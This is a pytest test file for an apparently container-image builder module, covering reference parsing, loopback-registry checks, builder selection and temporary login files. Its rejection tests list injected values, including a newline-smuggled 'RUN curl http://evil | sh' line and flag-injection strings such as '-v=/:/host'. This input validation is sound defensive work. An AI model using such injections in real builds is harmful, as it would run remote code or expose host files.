"""Image builders: references checked before they reach a Dockerfile or a command line, builder choice, logins."""

from __future__ import annotations

import json
import stat
import sys
from pathlib import Path

import pytest

from dosirak.bundles.builders import auth_file, choose, is_loopback_registry, parse_reference, run
from dosirak.errors import ImageError

DIGEST = "sha256:" + "0" * 64


@pytest.mark.parametrize(("text", "name", "tag", "digest", "domain"), [
    ("python:3.11-slim", "python", "3.11-slim", None, None),
    ("localhost/debian-python:bookworm", "localhost/debian-python", "bookworm", None, "localhost"),
    ("127.0.0.1:5055/team/fashion_mnist", "127.0.0.1:5055/team/fashion_mnist", None, None, "127.0.0.1:5055"),
    (f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/dosirak/fm:1@{DIGEST}",
     "123456789012.dkr.ecr.eu-west-1.amazonaws.com/dosirak/fm", "1", DIGEST, "123456789012.dkr.ecr.eu-west-1.amazonaws.com"),
    ("nvidia/cuda:12.4.1-runtime-ubuntu22.04", "nvidia/cuda", "12.4.1-runtime-ubuntu22.04", None, None),
])
def test_image_references_are_parsed(text: str, name: str, tag: str | None, digest: str | None,
                                     domain: str | None) -> None:
    parsed = parse_reference(text)
    assert (parsed.name, parsed.tag, parsed.digest, parsed.domain) == (name, tag, digest, domain)
    assert str(parsed) == text


@pytest.mark.parametrize("text", [
    "", "python:3.11\nRUN curl http://evil | sh", "python 3.11", "-v=/:/host", "--push=evil", "Python:3.11",
    "a//b", "a/../b", "x:" + "t" * 200, "a" * 300, "repo@sha256:short", "host:port/x",
])
def test_what_is_not_an_image_reference_is_refused(text: str) -> None:
    with pytest.raises(ImageError, match="is not an image reference"):
        parse_reference(text, "base image")


@pytest.mark.parametrize(("domain", "loopback"), [
    ("127.0.0.1:5000", True), ("127.1.2.3", True), ("localhost:5000", True), ("[::1]:5000", True),
    ("registry.example.com", False), ("127.0.0.1.nip.io", False), ("localhost.evil.com:5000", False), (None, False),
])
def test_only_loopback_registries_are_reached_over_plain_http(domain: str | None, loopback: bool) -> None:
    assert is_loopback_registry(domain) is loopback


def test_with_no_builder_installed_the_error_says_why_for_each(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ImageError) as caught:
        choose("auto")
    message = str(caught.value)
    assert message.startswith("no image builder works here (docker: the docker client is not installed; "
                              "podman: podman is not installed; buildah: buildah is not installed)")
    with pytest.raises(ImageError, match=r"buildah: buildah is not installed\).*--builder"):
        choose("buildah")
    with pytest.raises(ImageError, match="unknown image builder 'kaniko'"):
        choose("kaniko")


def test_a_failing_command_shows_its_last_lines_and_progress_sees_every_line() -> None:
    seen: list[str] = []
    script = "import sys\nfor i in range(100): print('line', i)\nprint('pip: no matching distribution', file=sys.stderr)\nsys.exit(3)"
    with pytest.raises(ImageError) as caught:
        run([sys.executable, "-c", script], "build of x", progress=seen.append)
    message = str(caught.value)
    assert message.startswith("build of x failed (exit status 3); its last lines:")
    assert "line 99" in message and "pip: no matching distribution" in message and "line 10\n" not in message
    assert len(seen) == 101
    with pytest.raises(ImageError, match="cannot run /nonexistent/program"):
        run(["/nonexistent/program"], "build of y")


def test_a_login_lives_in_a_private_file_only_while_it_is_used() -> None:
    with auth_file("127.0.0.1:5000", "AWS", "s3cret-token") as path:
        assert path is not None
        assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
        auths = json.loads(path.read_text())["auths"]
        assert list(auths) == ["127.0.0.1:5000"] and "s3cret-token" not in path.read_text()  # base64, as docker writes it
    assert not path.exists() and not path.parent.exists()
    with auth_file("r", None, None) as nothing:
        assert nothing is None
    with pytest.raises(ImageError, match="needs both a username and a password"), auth_file("r", "user", None):
        pass
